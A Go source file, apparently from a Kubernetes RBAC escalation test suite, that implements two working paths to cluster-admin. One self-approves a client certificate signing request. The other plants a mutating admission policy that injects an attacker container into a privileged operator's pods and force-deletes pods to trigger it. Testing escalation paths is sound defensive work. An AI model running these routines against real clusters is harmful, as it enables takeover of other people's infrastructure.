package main

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/pem"
	"fmt"

	admissionv1 "k8s.io/api/admissionregistration/v1"
	certificatesv1 "k8s.io/api/certificates/v1"
	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/rest"
)

// patchOptions are those of whoever has no manager of fields.
func patchOptions() metav1.PatchOptions { return metav1.PatchOptions{} }

// certify requests and approves a certificate of the user root, and acts as that user. Nothing is read: the answer to an approval holds the object.
func certify(a *attacker) error {
	if err := a.certified("admin", "system:masters").failed; !refused(err) {
		return fmt.Errorf("a certificate of the masters: %w", err)
	}
	c := a.certified(a.ns + "-root")
	if c.failed != nil {
		return c.failed
	}
	return a.holder(a.t, c.config).rules()
}

// certificate is what came of a request for one.
type certificate struct {
	config *rest.Config
	failed error
}

// certified has a certificate made.
func (a *attacker) certified(user string, groups ...string) certificate {
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return certificate{failed: err}
	}
	der, err := x509.CreateCertificateRequest(rand.Reader, &x509.CertificateRequest{Subject: pkix.Name{CommonName: user, Organization: groups}}, key)
	if err != nil {
		return certificate{failed: err}
	}
	requests := a.client.CertificatesV1().CertificateSigningRequests()
	request, err := requests.Create(a.ctx, &certificatesv1.CertificateSigningRequest{
		ObjectMeta: metav1.ObjectMeta{GenerateName: a.ns + "-"},
		Spec: certificatesv1.CertificateSigningRequestSpec{
			Request:    pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE REQUEST", Bytes: der}),
			SignerName: certificatesv1.KubeAPIServerClientSignerName,
			Usages:     []certificatesv1.KeyUsage{certificatesv1.UsageClientAuth},
		},
	}, metav1.CreateOptions{})
	if err != nil {
		return certificate{failed: err}
	}
	request.Status.Conditions = []certificatesv1.CertificateSigningRequestCondition{{Type: certificatesv1.CertificateApproved, Status: corev1.ConditionTrue, Reason: "Walk"}}
	var refusal error
	err = a.waits("a certificate", func(ctx context.Context) bool {
		// Who approves again hears what has come of it, without the right to get it.
		request.ResourceVersion = ""
		again, err := requests.UpdateApproval(ctx, request.Name, request, metav1.UpdateOptions{})
		if err != nil && !apierrors.IsConflict(err) {
			refusal = err
			return true
		}
		if err == nil {
			request = again
		}
		return len(request.Status.Certificate) > 0
	})
	if err == nil {
		err = refusal
	}
	private, marshal := x509.MarshalECPrivateKey(key)
	if err == nil {
		err = marshal
	}
	config := rest.AnonymousClientConfig(a.config)
	config.CertData, config.KeyData = request.Status.Certificate, pem.EncodeToMemory(&pem.Block{Type: "EC PRIVATE KEY", Bytes: private})
	return certificate{config: config, failed: err}
}

// operator is a workload of the victim.
const operator = `
apiVersion: apps/v1
kind: Deployment
metadata: {namespace: "{ns}", name: operator}
spec:
  selector: {matchLabels: {app: operator}}
  template:
    metadata: {labels: {app: operator}}
    spec: {serviceAccountName: victim, containers: [{name: main, image: "registry.example/operator:1"}]}
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: "{ns}-operator"}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}
subjects: [{kind: ServiceAccount, namespace: "{ns}", name: victim}]
`

// rewrite has the API server put the attacker's container into each new pod of the operator, and waits for the next.
func rewrite(a *attacker) error {
	client := a.client.AdmissionregistrationV1()
	fail, never := admissionv1.Fail, admissionv1.NeverReinvocationPolicy
	_, err := client.MutatingAdmissionPolicies().Create(a.ctx, &admissionv1.MutatingAdmissionPolicy{
		ObjectMeta: metav1.ObjectMeta{Name: a.ns},
		Spec: admissionv1.MutatingAdmissionPolicySpec{
			FailurePolicy: &fail, ReinvocationPolicy: never,
			MatchConstraints: &admissionv1.MatchResources{
				NamespaceSelector: &metav1.LabelSelector{MatchLabels: map[string]string{corev1.LabelMetadataName: a.ns}},
				ResourceRules: []admissionv1.NamedRuleWithOperations{{RuleWithOperations: admissionv1.RuleWithOperations{
					Operations: []admissionv1.OperationType{admissionv1.Create},
					Rule:       admissionv1.Rule{APIGroups: []string{""}, APIVersions: []string{"v1"}, Resources: []string{"pods"}},
				}}},
			},
			Mutations: []admissionv1.Mutation{{PatchType: admissionv1.PatchTypeApplyConfiguration, ApplyConfiguration: &admissionv1.ApplyConfiguration{
				Expression: fmt.Sprintf(`Object{spec: Object.spec{containers: [Object.spec.containers{name: "attack", image: %q}]}}`, attack),
			}}},
		},
	}, metav1.CreateOptions{})
	if err != nil {
		return err
	}
	_, err = client.MutatingAdmissionPolicyBindings().Create(a.ctx, &admissionv1.MutatingAdmissionPolicyBinding{
		ObjectMeta: metav1.ObjectMeta{Name: a.ns}, Spec: admissionv1.MutatingAdmissionPolicyBindingSpec{PolicyName: a.ns},
	}, metav1.CreateOptions{})
	return a.infects(err)
}

// infects waits until the next pod of the operator has the attacker's container, and acts as it. Somebody rolls the operator out in the meantime.
func (a *attacker) infects(err error) error {
	if err != nil {
		return err
	}
	var name string
	err = a.waits("a pod that was rewritten", func(ctx context.Context) bool {
		pods, err := a.admin.CoreV1().Pods(a.ns).List(ctx, metav1.ListOptions{LabelSelector: "app=operator"})
		if err != nil {
			return false
		}
		for i := range pods.Items {
			if p := &pods.Items[i]; p.DeletionTimestamp == nil {
				if attacks(p) {
					name = p.Name
					return true
				}
				zero := int64(0)
				_ = a.admin.CoreV1().Pods(a.ns).Delete(ctx, p.Name, metav1.DeleteOptions{GracePeriodSeconds: &zero})
			}
		}
		return false
	})
	if err != nil {
		return err
	}
	v, err := a.inside(a.ns, name)
	if err != nil {
		return err
	}
	return v.rules()
}

func apiSchemes() []scheme {
	const certificates, admission = ".certificates.k8s.io", ".admissionregistration.k8s.io"
	const made = "create certificatesigningrequests" + certificates + "; update certificatesigningrequests/approval" + certificates + "; approve signers" + certificates + " "
	const policies, bindings = "create mutatingadmissionpolicies" + admission, "; create mutatingadmissionpolicybindings" + admission
	return []scheme{
		{name: "a certificate that the requester approves", hops: "A-01", to: "cluster-admin", objects: root, held: []right{{"", made + "kubernetes.io/kube-apiserver-client"}}, walk: certify, near: []neighbour{
			{"another signer", may(0, made+"kubernetes.io/kubelet-serving")},
			{"another verb", may(0, "create,update,patch certificatesigningrequests"+certificates+"; approve signers"+certificates)},
			{"sign in place of approve", may(0, "create certificatesigningrequests"+certificates+"; update certificatesigningrequests/approval"+certificates+"; attest signers"+certificates)},
			{"a binding of one namespace", at(0, "ns")},
		}},
		{name: "a policy that rewrites pods", hops: "A-06", to: "cluster-admin", objects: operator, held: []right{{"", policies + bindings}}, walk: rewrite, near: []neighbour{
			{"nothing to bind it by", may(0, policies)},
			{"policies that only refuse", may(0, "create validatingadmissionpolicies,validatingadmissionpolicybindings"+admission)},
			{"a binding of one namespace", at(0, "ns")},
		}},
	}
}
